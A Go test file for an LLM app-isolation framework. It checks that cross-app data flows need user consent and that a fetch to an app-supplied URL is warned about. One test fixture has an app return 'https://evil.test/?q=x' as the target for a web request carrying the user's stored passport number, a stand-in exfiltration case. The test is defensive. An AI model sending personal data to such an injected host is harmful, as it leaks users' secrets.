package hub_test

import (
	"context"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/isolategpt/isolategpt/hub"
	"github.com/isolategpt/isolategpt/isc"
	"github.com/isolategpt/isolategpt/memory"
	"github.com/isolategpt/isolategpt/permission"
	"github.com/isolategpt/isolategpt/spoke"
)

type balance struct {
	N     int   `json:"n" isolate:"min=0,max=100000"`
	Parts []int `json:"parts"`
}

// TestWhatControlsACallTellsOfItself: whether and how often an app is used is
// something that it learns of the app whose data decides that. So the plan is
// approved first, and it counts as a flow from that app.
func TestWhatControlsACallTellsOfItself(t *testing.T) {
	const head = `{"steps":[{"id":"l","do":"call","functionality":"bank.balance","args":{}},`
	for name, plan := range map[string]string{
		"when": head + `{"id":"m","do":"call","when":{"op":"gt","a":{"step":"l","pointer":"/n"},"b":50000},"functionality":"shop.search","args":{"text":"yacht"}}],"answer":{"step":"m","pointer":"/text"}}`,
		"each": head + `{"id":"m","do":"call","each":{"step":"l","pointer":"/parts"},"at_most":3,"functionality":"shop.search","args":{"text":"yacht"}}],"answer":{"step":"m","pointer":"/*/text"}}`,
	} {
		for _, allow := range []bool{true, false} {
			t.Run(name, func(t *testing.T) {
				var searched atomic.Int32
				bank := must(spoke.New(isc.Manifest{ID: "bank", Name: "Bank"},
					spoke.Func("bank.balance", func(context.Context, empty) (balance, error) { return balance{70000, []int{1, 2}}, nil }, spoke.Reads())))
				shop := must(spoke.New(isc.Manifest{ID: "shop", Name: "Shop"},
					spoke.Func("shop.search", func(_ context.Context, n note) (note, error) { searched.Add(1); return n, nil }, spoke.Reads())))
				p := &person{answer: saysYes}
				if !allow {
					p.answer = nil
				}
				s := open(t, hub.Config{Apps: apps(bank, shop), Consent: p, Planner: plans(map[string]string{"go": plan})})
				e := runs(t, s, "go")
				require.NoError(t, e.err)
				require.Equal(t, []string{permission.ApprovePlan.String()}, p.kinds())
				if !allow {
					require.Zero(t, searched.Load())
					require.True(t, e.answer.Refused)
					return
				}
				require.Positive(t, searched.Load())
				flows := 0
				for _, d := range e.decided() {
					if d.Question.Kind == permission.Collaborate && d.Question.From.ID == "bank" && d.Question.To.ID == "shop" {
						flows++
						require.Contains(t, d.Question.Label.Apps(), isc.AppID("bank"))
					}
				}
				require.EqualValues(t, searched.Load(), flows)
			})
		}
	}
}

type fetch struct {
	URL  string `json:"url" isolate:"role=destination"`
	With string `json:"with"`
}

// TestAReadSendsWhereItReads: an approved plan does not show where a read goes if
// an app says so, and what it reads with is the person's.
func TestAReadSendsWhereItReads(t *testing.T) {
	const named, found = `"https://good.test/a"`, `{"step":"l","pointer":"/text"}`
	plan := func(url string) string {
		return `{"steps":[{"id":"l","do":"call","functionality":"addr.find","args":{}},
			{"id":"m","do":"call","functionality":"web.get","args":{"url":` + url + `,"with":{"memory":"passport_number"}}}],
			"answer":{"template":[{"step":"l","pointer":"/text"},{"step":"m","pointer":"/text"}]}}`
	}
	for name, c := range map[string]struct {
		plan  string
		asked bool
	}{"an app's": {plan(found), true}, "the plan's": {plan(named), false}} {
		for _, allow := range []bool{true, false} {
			t.Run(name, func(t *testing.T) {
				mem := memory.InMemory()
				learns(t, mem, "passport_number", `"C01X"`)
				var got []fetch
				find := must(spoke.New(isc.Manifest{ID: "addresses", Name: "Addresses"},
					spoke.Func("addr.find", func(context.Context, empty) (note, error) { return note{"https://evil.test/?q=x"}, nil }, spoke.Reads())))
				web := must(spoke.New(isc.Manifest{ID: "web", Name: "Web"},
					spoke.Func("web.get", func(_ context.Context, f fetch) (note, error) { got = append(got, f); return note{"x"}, nil }, spoke.Reads())))
				p := &person{answer: func(r permission.Request) permission.Answer {
					if r.Kind != permission.ApprovePlan && !allow {
						return r.Answer(permission.Deny)
					}
					return saysYes(r)
				}}
				s := open(t, hub.Config{Apps: apps(find, web), Consent: p, Memory: mem, Planner: plans(map[string]string{"go": c.plan})})
				e := runs(t, s, "go")
				require.NoError(t, e.err)
				if !c.asked {
					require.Equal(t, []string{permission.ApprovePlan.String()}, p.kinds())
					require.Len(t, got, 1)
					return
				}
				require.Equal(t, permission.ApprovePlan.String(), p.kinds()[0])
				require.Greater(t, len(p.asked), 1, "the target was not in what was approved")
				for _, r := range p.asked[1:] {
					require.True(t, warned(r, permission.CodeRuleOfTwo), "%s %v", r.Kind, r.Assessment)
					require.True(t, warned(r, permission.CodeTargetNotFromUser))
				}
				if allow {
					require.Len(t, got, 1)
				} else {
					require.Empty(t, got)
				}
			})
		}
	}
}
